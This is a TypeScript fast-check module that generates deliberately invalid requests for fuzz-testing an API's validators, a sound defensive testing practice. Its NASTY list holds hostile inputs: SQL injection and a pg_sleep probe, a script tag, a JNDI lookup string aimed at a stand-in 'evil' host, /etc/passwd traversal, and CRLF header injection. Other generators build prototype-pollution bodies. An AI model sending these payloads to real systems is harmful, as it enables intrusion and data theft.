import fc from 'fast-check';

/**
 * Generators of requests that are wrong by construction: each one breaks at least one rule of
 * its endpoint (a field refused by its validator, a required field missing, a body that is not a
 * JSON object, malformed, oversized or of another content type, a poisoned prototype, bad
 * credentials...). Field rules come from the DTOs' own patterns, so "wrong" means wrong to the
 * app. Nothing here can be valid by chance: a 2xx is a bug (or a generator bug) to look at.
 */
export interface BadRequest {
  /** `METHOD /route/pattern`. */
  endpoint: string;
  family: 'callbox' | 'topup';
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
  /** What makes it wrong. */
  why: string;
}

export interface FuzzTargets {
  callboxToken: string;
  apiKey: string;
  /** A registered box. */
  boxId: string;
  /** Transactions that exist: assigned to boxId, processing by it. */
  transactionIds: string[];
}

export const JSON_CT = 'application/json';

/** Injection-shaped, unicode and control-character strings. */
export const NASTY = [
  "' OR '1'='1",
  "'; DROP TABLE transactions; --",
  '" OR ""="',
  '1; SELECT pg_sleep(10)',
  "admin'--",
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://evil/a}',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '{"$gt":""}',
  '$where',
  'callbox_001\r\nX-Injected: 1',
  '🙂🙃',
  'ｃａｌｌｂｏｘ＿００１',
  '７７１２３４５６',
  '७७१२३४५६',
  '٢١١٢٣٤٥٦',
  'İstanbul',
  '\u202Egnp.exe',
  '\uFEFFrecharge',
  'recharge\u200B',
  'e\u0301',
  '\ud800',
  ' ',
  '',
];

export const enc = (s: string) => {
  try {
    return encodeURIComponent(s);
  } catch {
    return encodeURIComponent(s.replace(/[\ud800-\udfff]/g, '?'));
  }
};

/** Strings of every kind: injection-shaped, random, unicode, oversized, with control characters. */
export const anyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.fullUnicodeString({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.integer({ min: 65, max: 3000 }).map((n) => 'A'.repeat(n)) },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.string({ maxLength: 10 }), fc.constantFrom('\u0000', '\n', '\t', '\u200b', '\ufeff', '\u00a0')).map(([s, c]) => s + c),
  },
);

/** Nested arrays, deep enough to hurt a recursive walker. */
const deep = fc.integer({ min: 50, max: 3000 }).map((depth) => {
  let value: unknown = 'x';
  for (let i = 0; i < depth; i++) value = [value];
  return value;
});

/** Anything but a string, and never null (null is "absent" for optional fields). */
export const notAString: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 2 }),
  deep,
);

/** Anything but a number, never null. */
export const notANumber: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom('100', '1e2', '0x10', ' 5', '', 'NaN', 'Infinity', '5 '),
  fc.boolean(),
  fc.array(fc.integer(), { maxLength: 2 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.integer(), { maxKeys: 2 }),
  deep,
);

/** Anything but a JSON object, never null. */
export const notAnObject: fc.Arbitrary<unknown> = fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.boolean(), fc.array(fc.integer(), { maxLength: 2 }), deep);

/** A value `accepts` refuses; with `nullable: false` (a required or IfPresent field) null too. */
export function refusedString(accepts: (s: string) => boolean, options: { nullable?: boolean; nearMisses?: string[] } = {}) {
  const strings = fc.oneof(anyString, fc.constantFrom(...(options.nearMisses ?? ['']))).filter((s) => !accepts(s));
  const arbitraries: Array<fc.Arbitrary<unknown>> = [strings, strings, strings, notAString];
  if (options.nullable === false) arbitraries.push(fc.constant(null));
  return fc.oneof(...arbitraries);
}

export const matches = (pattern: RegExp) => (s: string) => pattern.test(s);
export const oneOf = (values: readonly string[]) => (s: string) => values.includes(s);

/** An integer-ish value outside [min, max], a fraction, or not a number at all. */
export function refusedInt(min: number, max: number, options: { nullable?: boolean } = {}) {
  const arbitraries: Array<fc.Arbitrary<unknown>> = [
    fc.integer({ min: Math.max(min - 1_000_000, -2_000_000_000), max: min - 1 }),
    fc.double({ min, max: Math.min(max, 1e12), noNaN: true }).filter((x) => !Number.isInteger(x)),
    notANumber,
    fc.constant(-1e308),
  ];
  if (Number.isFinite(max)) arbitraries.push(fc.integer({ min: max + 1, max: max + 1_000_000 }), fc.constantFrom(1e308, 2 ** 53 + 2));
  if (options.nullable === false) arbitraries.push(fc.constant(null));
  return fc.oneof(...arbitraries);
}

export interface Field {
  name: string;
  valid: fc.Arbitrary<unknown>;
  invalid: fc.Arbitrary<unknown>;
  /** Required fields may also be left out. */
  required: boolean;
}

export const field = (name: string, valid: unknown, invalid: fc.Arbitrary<unknown>, required: boolean): Field => ({
  name,
  valid: valid instanceof fc.Arbitrary ? valid : fc.constant(valid),
  invalid,
  required,
});

const RESERVED_KEYS = ['__proto__', 'constructor', 'prototype'];

export function validBody(fields: Field[]): fc.Arbitrary<Record<string, unknown>> {
  return fc.tuple(...(fields.map((f) => f.valid) as [fc.Arbitrary<unknown>])).map((values) =>
    Object.fromEntries(fields.map((f, i) => [f.name, values[i]])),
  );
}

/** A JSON object with 1 to 3 fields refused (the others valid), or a required field left out. */
export function badObject(fields: Field[]): fc.Arbitrary<{ value: Record<string, unknown>; why: string }> {
  const names = fields.map((f) => f.name);
  const noise = fc.dictionary(
    fc.string({ minLength: 1, maxLength: 12 }).filter((k) => !names.includes(k) && !RESERVED_KEYS.includes(k)),
    fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.constantFrom(...NASTY)),
    { maxKeys: 2 },
  );
  const indexes = fields.map((_, i) => i);
  const someInvalid = fc
    .tuple(fc.subarray(indexes, { minLength: 1, maxLength: Math.min(3, indexes.length) }), fc.tuple(...(fields.map((f) => f.invalid) as [fc.Arbitrary<unknown>])), validBody(fields), noise)
    .map(([which, invalids, valid, extra]) => {
      const value: Record<string, unknown> = { ...extra, ...valid };
      for (const i of which) value[fields[i].name] = invalids[i];
      return { value, why: `refused ${which.map((i) => fields[i].name).join('+')}` };
    });
  const required = fields.filter((f) => f.required);
  if (required.length === 0) return someInvalid;
  const missing = fc.tuple(fc.constantFrom(...required), validBody(fields)).map(([left, valid]) => {
    const value = { ...valid };
    delete value[left.name];
    return { value, why: `missing ${left.name}` };
  });
  return fc.oneof({ weight: 4, arbitrary: someInvalid }, { weight: 1, arbitrary: missing });
}

export interface RawBody {
  raw?: string;
  contentType?: string;
  why: string;
}

/** Bodies refused before validation: malformed, not an object, oversized, other content types, poisoned. */
export function badRawBody(valid: fc.Arbitrary<Record<string, unknown>>, options: { parsedOnly?: boolean } = {}): fc.Arbitrary<RawBody> {
  const json = (v: Record<string, unknown>) => JSON.stringify(v);
  const shapes: Array<fc.Arbitrary<RawBody>> = [
    valid.chain((v) =>
      fc.integer({ min: 1, max: Math.max(1, json(v).length - 1) }).map((n) => ({ raw: json(v).slice(0, n), contentType: JSON_CT, why: 'truncated JSON' })),
    ),
    fc
      .tuple(valid, fc.constantFrom("{'type': 'x'}", '{"a":1,}', '{a:1}', 'NaN', '{"a": undefined}', '\u0000', '{"a": 01}', '{,}', '}{', '"unterminated'), fc.boolean())
      .map(([v, garbage, alone]) => ({ raw: alone ? garbage : json(v) + garbage, contentType: JSON_CT, why: 'malformed JSON' })),
    fc.constant({ raw: '', contentType: JSON_CT, why: 'empty body declared JSON' }),
    fc
      .tuple(valid, fc.integer({ min: 65 * 1024, max: 160 * 1024 }))
      .map(([v, n]) => ({ raw: JSON.stringify({ ...v, padding: 'x'.repeat(n) }), contentType: JSON_CT, why: 'body over 64 KiB' })),
    fc
      .tuple(valid, fc.constantFrom('application/xml', 'text/xml', 'multipart/form-data; boundary=zz', 'application/octet-stream', 'image/png', 'application/yaml'))
      .map(([v, contentType]) => ({ raw: json(v), contentType, why: `content-type ${contentType}` })),
    fc.tuple(valid, fc.constantFrom('__proto__', 'constructor')).map(([v, key]) => {
      const poison = key === '__proto__' ? '"__proto__":{"polluted":true}' : '"constructor":{"prototype":{"polluted":true}}';
      const body = json(v);
      return { raw: body === '{}' ? `{${poison}}` : `{${poison},${body.slice(1)}`, contentType: JSON_CT, why: `${key} poisoning` };
    }),
  ];
  if (!options.parsedOnly) {
    // Parsed, then refused for not being an object (routes without a body ignore these).
    shapes.push(
      fc
        .oneof(fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }), fc.string({ maxLength: 20 }), fc.integer(), fc.constant(null), fc.boolean())
        .map((v) => ({ raw: JSON.stringify(v), contentType: JSON_CT, why: 'JSON body not an object' })),
      valid.map((v) => ({ raw: `[${json(v)}]`, contentType: JSON_CT, why: 'body wrapped in an array' })),
      valid.map((v) => ({ raw: json(v), contentType: 'text/plain', why: 'JSON sent as text/plain' })),
      valid.map((v) => ({ raw: json(v), contentType: undefined, why: 'body without content-type' })),
    );
  }
  return fc.oneof(...shapes);
}
